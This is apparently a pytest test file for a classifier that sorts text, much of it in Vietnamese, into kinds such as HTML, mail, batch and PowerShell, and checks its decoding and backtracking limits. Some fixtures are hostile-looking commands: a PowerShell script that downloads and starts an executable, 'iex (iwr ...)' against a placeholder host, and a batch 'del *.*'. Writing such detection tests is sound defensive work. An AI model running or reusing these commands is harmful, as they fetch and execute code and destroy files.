"""Kinds of text: letters stay letters, scripts are known."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.text_type import (
    BATCH,
    HTML,
    MAIL,
    POWERSHELL,
    SVG,
    TEXT,
    XML,
    as_text,
    is_utf8,
    text_type,
)

SCRIPT = """<#
.SYNOPSIS Cài đặt
#>
# tải về
param([string]$Url)
$client = New-Object System.Net.WebClient
if ($Url) {
    $client.DownloadFile($Url, "a.exe")
    Start-Process a.exe
}
"""


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Kính gửi: Văn phòng Chính phủ\n", TEXT),
        ("", TEXT),
        ("a,b\n1,2\n", TEXT),
        ('{"a": 1}', TEXT),
        ('<?xml version="1.0"?>\n<a/>', XML),
        ("<a/>", TEXT),
        ("<!DOCTYPE html><p>a", HTML),
        ("\n<HTML><body>", HTML),
        ('<?xml version="1.0"?><!-- a --><html xmlns="x">', HTML),
        ("<svg width='1'>", SVG),
        ('<?xml version="1.0"?>\n<!-- a -->\n<svg>', SVG),
        ("Received: from a\n by b\nFrom: a@b.example\nSubject: x\n\nhello", MAIL),
        ("MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nx", MAIL),
        ("From: a\nTo: b\n\nhello", TEXT),
        ("Received: hôm qua", TEXT),
        ("Received: hôm qua\nkhông phải thư\n", TEXT),
        ("@echo off\ndel *.*\n", BATCH),
        (":: ghi chú\nREM ghi chú\r\nsetlocal\r\n", BATCH),
        ("@start evil.exe", BATCH),
        ("Lệnh @echo off tắt việc in lệnh.\n", TEXT),
        ("@tôi viết thư này", TEXT),
        (SCRIPT, POWERSHELL),
        ("Invoke-WebRequest http://a.example/b.exe -OutFile b.exe", POWERSHELL),
        ("iex (iwr http://a.example)", POWERSHELL),
        ("#Requires -RunAsAdministrator\nGet-Service | Stop-Service", POWERSHELL),
        ("Hướng dẫn\nDùng lệnh Set-ExecutionPolicy rồi\nkhởi động lại máy.\n", TEXT),
        ("Invoke-Expression là một lệnh.\nNó chạy một chuỗi.\nKhông nên dùng.\n", TEXT),
        ("Read-only copy of the add-on list", TEXT),
        ("$x = 5$ là nghiệm của phương trình", TEXT),
        ("function f() {\n  return 1;\n}\n", TEXT),
    ],
)
def test_kinds(text: str, expected: str) -> None:
    """By its beginning and, for scripts, by most of its lines."""
    assert text_type(text) == expected


@pytest.mark.parametrize(
    ("head", "text"),
    [
        ("Công văn".encode(), "Công văn"),
        ("Công văn".encode("utf-8-sig"), "Công văn"),
        (b"\xff\xfe" + "Công".encode("utf-16-le"), "Công"),
        (b"\xfe\xff" + "Công".encode("utf-16-be"), "Công"),
        (b"a\tb\r\n\x0c\x1b", "a\tb\r\n\x0c\x1b"),
        (b"a\0b", None),
        (b"a\x7fb", None),
        ("Công".encode("utf-16-le"), None),
        ("Công".encode("cp1258"), None),
        (b"\xff\xfea", None),
    ],
)
def test_text_is_what_decodes(head: bytes, text: str | None) -> None:
    """UTF-8, or UTF-16 with its mark, without control characters."""
    assert as_text(head, is_whole=True) == text


def test_a_head_may_end_within_a_character() -> None:
    """Only where the file goes on."""
    head = "ế".encode()[:2]
    assert as_text(b"a" + head, is_whole=False) == "a"
    assert as_text(b"a" + head, is_whole=True) is None
    assert is_utf8(b"\0" + head, is_whole=False)
    assert not is_utf8(b"\0" + head, is_whole=True)


@given(st.text(max_size=400))
def test_any_text_has_a_kind(text: str) -> None:
    """Nothing raises, and what is text in UTF-8 is that text."""
    assert "/" in text_type(text)
    found = as_text(text.encode(), is_whole=True)
    assert found in {None, text, text.removeprefix("\ufeff")}


@pytest.mark.parametrize(
    "text",
    [
        "<!---->" * 9_000 + "x",
        "<!--" * 16_000,
        "<#" * 30_000 + "\nWrite-Host",
        "Write-Host\n" + "<#" * 30_000,
        "$" + "a" * 60_000,
        " " * 60_000 + "<",
        "a" * 60_000,
        "Write-Host " + "(" * 60_000 + "x",
        "<?xml " * 10_000,
    ],
    ids=lambda text: text[:12],
)
@pytest.mark.timeout(5)
def test_hostile_texts_take_no_time(text: str) -> None:
    """Openings that are never closed, and comments without end, do not make the patterns go back and forth."""
    assert "/" in text_type(text)
